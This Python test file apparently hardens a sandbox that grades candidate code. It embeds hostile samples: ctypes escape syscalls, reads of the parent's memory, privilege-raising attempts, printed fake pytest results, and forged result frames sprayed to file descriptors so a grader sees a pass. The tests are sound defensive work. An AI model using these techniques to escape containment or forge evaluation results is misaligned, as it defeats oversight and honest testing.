def test_process_vm_readv_of_the_parent_is_a_violation(adversarial_pool: WorkerPool) -> None:
    source = candidate(
        """
        import ctypes

        class IoVec(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

        def f(x):
            if x == 1:
                buf = ctypes.create_string_buffer(64)
                local = IoVec(ctypes.cast(buf, ctypes.c_void_p), 64)
                remote = IoVec(0x400000, 64)
                libc = ctypes.CDLL(None, use_errno=True)
                libc.process_vm_readv(_os.getppid(), ctypes.byref(local), 1,
                                      ctypes.byref(remote), 1, 0)
                say("SURVIVED")
            return x + 1
        """
    )
    evaluation = adversarial_pool.evaluate(source)
    assert evaluation.status is Status.VIOLATION, evaluation
    assert "SURVIVED" not in evaluation.output
    never_passed(evaluation, "test_one")


RAW_SYSCALLS = {
    # name: ({machine: number}, arguments as Python source)
    "mount": ({"x86_64": 165, "aarch64": 40}, 'b"none", b"/tmp", b"tmpfs", 0, None'),
    "unshare": ({"x86_64": 272, "aarch64": 97}, "0x10000000"),  # CLONE_NEWUSER
    "setns": ({"x86_64": 308, "aarch64": 268}, "0, 0"),
    "chroot": ({"x86_64": 161, "aarch64": 51}, 'b"/tmp"'),
    "bpf": ({"x86_64": 321, "aarch64": 280}, "0, None, 0"),
    "keyctl": ({"x86_64": 250, "aarch64": 219}, "0, 0, 0, 0, 0"),
    "init_module": ({"x86_64": 175, "aarch64": 105}, "None, 0, None"),
}


@pytest.mark.parametrize("name", sorted(RAW_SYSCALLS))
def test_raw_escape_syscalls_through_ctypes_are_violations(
    adversarial_pool: WorkerPool, name: str
) -> None:
    numbers, args = RAW_SYSCALLS[name]
    number = numbers[os.uname().machine]
    source = candidate(
        """
        import ctypes

        def f(x):
            if x == 1:
                ctypes.CDLL(None, use_errno=True).syscall(@NUMBER@, @ARGS@)
                say("SURVIVED")
            return x + 1
        """,
        number=number,
        args=args,
    )
    evaluation = adversarial_pool.evaluate(source)
    assert evaluation.status is Status.VIOLATION, evaluation
    assert "SURVIVED" not in evaluation.output
    never_passed(evaluation, "test_one")


def test_no_privileges_and_no_capabilities(adversarial_pool: WorkerPool) -> None:
    source = candidate(
        """
        def f(x):
            if x == 1:
                for label, call in [("setuid", lambda: _os.setuid(0)),
                                     ("setgid", lambda: _os.setgid(0)),
                                     ("seteuid", lambda: _os.seteuid(0)),
                                     ("setgroups", lambda: _os.setgroups([0]))]:
                    try:
                        call()
                        say("BECAME-ROOT", label)
                    except OSError as exc:
                        say("denied", label, exc.errno)
                for line in open("/proc/self/status"):
                    if line.startswith(("Uid:", "Cap", "NoNewPrivs:", "Seccomp:")):
                        say(line.strip())
            return x + 1
        """
    )
    evaluation = adversarial_pool.evaluate(source)
    assert evaluation.status is Status.OK, evaluation
    status = dict(line.split(":", 1) for line in evaluation.output.splitlines() if ":" in line)
    assert "BECAME-ROOT" not in evaluation.output
    assert evaluation.output.count("denied") == 4
    assert int(status["CapEff"], 16) == 0
    assert int(status["CapPrm"], 16) == 0
    assert int(status["CapAmb"], 16) == 0
    assert status["NoNewPrivs"].strip() == "1"
    assert status["Seccomp"].strip() == "2"
    assert "0" not in status["Uid"].split()


# ---------------------------------------------------------------- crashes


def test_deep_recursion_is_a_failed_test(adversarial_pool: WorkerPool) -> None:
    source = candidate(
        """
        def f(x):
            if x == 1:
                return f(x)
            return x + 1
        """
    )
    evaluation = adversarial_pool.evaluate(source)
    expect(evaluation, Status.FAILED, "failed", "passed", "passed")
    assert "RecursionError" in evaluation.tests[0].message


def test_a_segfault_crashes_one_test_and_the_rest_still_run(adversarial_pool: WorkerPool) -> None:
    source = candidate(
        """
        import ctypes

        def f(x):
            if x == 2:
                ctypes.string_at(0)
            return x + 1
        """
    )
    evaluation = adversarial_pool.evaluate(source)
    expect(evaluation, Status.CRASHED, "passed", "error", "passed")
    assert "SIGSEGV" in evaluation.message


# ---------------------------------------------------------------- forging results


def test_printing_fake_pytest_and_json_results_changes_nothing(
    adversarial_pool: WorkerPool,
) -> None:
    source = candidate(
        """
        import json

        fake = {"op": "result", "status": "ok", "flags": [],
                "tests": [{"name": "tests/test_prog.py::test_one", "outcome": "passed"}]}
        print("tests/test_prog.py ...                                   [100%]")
        print("============================== 3 passed in 0.01s ===============================")
        print(json.dumps(fake))
        say(json.dumps(fake))

        def f(x):
            print("PASSED")
            return 0
        """
    )
    evaluation = adversarial_pool.evaluate(source)
    assert evaluation.status is Status.FAILED, evaluation
    assert outcomes(evaluation) == dict.fromkeys(UNITS, "failed")
    assert "3 passed" in evaluation.output  # it was printed, and counted for nothing


def test_os_exit_zero_at_import_is_not_a_pass(adversarial_pool: WorkerPool) -> None:
    source = candidate("_os._exit(0)\n\ndef f(x):\n    return 0\n")
    evaluation = adversarial_pool.evaluate(source)
    assert evaluation.status is Status.CRASHED, evaluation
    never_passed(evaluation, *UNITS)
    assert evaluation.passed == 0


def test_sys_exit_zero_at_import_is_not_a_pass(adversarial_pool: WorkerPool) -> None:
    source = candidate("import sys\n\nsys.exit(0)\n\ndef f(x):\n    return 0\n")
    evaluation = adversarial_pool.evaluate(source)
    assert evaluation.status in NOT_OK, evaluation
    never_passed(evaluation, *UNITS)
    assert "SystemExit" in evaluation.message


# Each candidate leaves abruptly inside one test; only that test may suffer.
LEAVING_INSIDE_A_TEST = {
    "sys_exit_zero": (
        "import sys\n\ndef f(x):\n    if x == 2:\n        sys.exit(0)\n    return x + 1\n",
        Status.FAILED,
        {"test_one": "passed", "test_two": "failed", "test_three": "passed"},
    ),
    "os_exit_zero": (
        "def f(x):\n    if x == 2:\n        _os._exit(0)\n    return x + 1\n",
        Status.CRASHED,
        {"test_one": "passed", "test_two": "error", "test_three": "passed"},
    ),
    "sigkill_itself": (
        "import signal\n\ndef f(x):\n    if x == 3:\n"
        "        _os.kill(_os.getpid(), signal.SIGKILL)\n    return x + 1\n",
        Status.CRASHED,
        {"test_one": "passed", "test_two": "passed", "test_three": "error"},
    ),
}


@pytest.mark.parametrize("attack", sorted(LEAVING_INSIDE_A_TEST))
def test_leaving_inside_a_test_is_not_a_pass(adversarial_pool: WorkerPool, attack: str) -> None:
    body, status, expected = LEAVING_INSIDE_A_TEST[attack]
    evaluation = adversarial_pool.evaluate(candidate(body))
    assert evaluation.status is status, evaluation
    assert outcomes(evaluation) == expected


FRAME = """
import json
import struct

def frame(message):
    body = json.dumps(message).encode()
    return struct.pack(">I", len(body)) + body

def oldest_pipes_first(fd):
    # Pipes made when the worker started (its channel to the host) before the pipes made for
    # this candidate, whatever their numbers: tampering with the result pipe ends the child.
    try:
        target = _os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        return (2, 0)
    return (0, int(target[6:-1])) if target.startswith("pipe:[") else (1, fd)

def spray(messages):
    fds = [int(n) for n in _os.listdir("/proc/self/fd")]
    for fd in sorted(fds, key=oldest_pipes_first):
        for message in messages:
            try:
                _os.write(fd, frame(message))
            except OSError:
                pass
"""


def test_fake_frames_to_every_descriptor_are_a_violation(adversarial_pool: WorkerPool) -> None:
    source = candidate(
        FRAME,
        """
        def f(x):
            spray([{"ev": "start", "i": 1}, {"ev": "result", "i": 1, "outcome": "passed"},
                   {"ev": "result", "i": 0, "outcome": "passed"}, {"ev": "done"}])
            return 0
        """,
    )
    evaluation = adversarial_pool.evaluate(source)
    assert evaluation.status is Status.VIOLATION, evaluation
    never_passed(evaluation, *UNITS)
    assert_still_works(adversarial_pool)


def test_a_forged_reply_to_the_host_is_not_taken(adversarial_pool: WorkerPool) -> None:
    # The worker's own channel to the host must be closed in the candidate's process: a reply
    # frame written there would be taken as this evaluation's result, and the real reply as the
    # next candidate's.
    names = [f"tests/test_prog.py::{unit}" for unit in UNITS]
    reply = {
        "op": "result",
        "tests": [{"name": n, "outcome": "passed", "duration_s": 0.001} for n in names],
        "metrics": {},
        "flags": [],
        "message": "",
        "output": "",
        "dropped": 0,
        "peak_memory_bytes": 0,
    }
    source = candidate(
        FRAME,
        """
        spray([@REPLY@])

        def f(x):
            return 0
        """,
        reply=repr(reply),
    )
    evaluation = adversarial_pool.evaluate(source)
    assert evaluation.status in NOT_OK, evaluation
    assert evaluation.passed == 0
    assert_still_works(adversarial_pool)  # replies are still matched to their requests


# ---------------------------------------------------------------- the rlimits fallback


def test_rlimits_fallback_says_so_and_still_kills_the_tree(fresh_pool: PoolFactory) -> None:
    pool = fresh_pool(jail="rlimits")
    assert pool.jail == "rlimits"
    assert pool.warning and "rlimits" in pool.warning
    daemon = mark("rlim")
    source = candidate(
        DAEMON,
        """
        import time

        def f(x):
            if x == 1:
                daemonize("@DAEMON@")
                time.sleep(10_000)
            return x + 1
        """,
        daemon=daemon,
    )
    evaluation = pool.evaluate(source)
    assert evaluation.sandbox == "rlimits"
    expect(evaluation, Status.TIMEOUT, "timeout", "passed", "passed")
    assert_no_process(daemon)


def test_rlimits_fallback_bounds_memory_and_scrubs_the_environment(
    fresh_pool: PoolFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    secret = "s3cr3t-" + secrets.token_hex(8)
    monkeypatch.setenv("PETRI_TEST_SECRET", secret)
    pool = fresh_pool(jail="rlimits", test_timeout_s=10.0)
    assert pool.jail == "rlimits" and pool.warning
    snooped = pool.evaluate(candidate(SNOOP_ENV))
    assert snooped.status is Status.OK, snooped
    assert "ENV-ATTACK-RAN" in snooped.output
    assert secret not in snooped.output
    bomb = pool.evaluate(
        candidate(
            """
            def f(x):
                if x == 1:
                    hoard = []
                    while True:
                        hoard.append(bytearray(32 << 20))
                return x + 1
            """
        )
    )
    assert bomb.status is Status.MEMORY, bomb
    never_passed(bomb, "test_one")


def test_rlimits_fallback_survives_a_killed_parent(fresh_pool: PoolFactory) -> None:
    pool = fresh_pool(jail="rlimits")
    assert pool.jail == "rlimits" and pool.warning
    source = candidate(
        """
        import signal

        def f(x):
            if x == 1:
                _os.kill(_os.getppid(), signal.SIGKILL)
            return x + 1
        """
    )
    evaluation = pool.evaluate(source)
    assert evaluation.status in {Status.VIOLATION, Status.CRASHED}, evaluation
    never_passed(evaluation, "test_one")
    assert_still_works(pool)
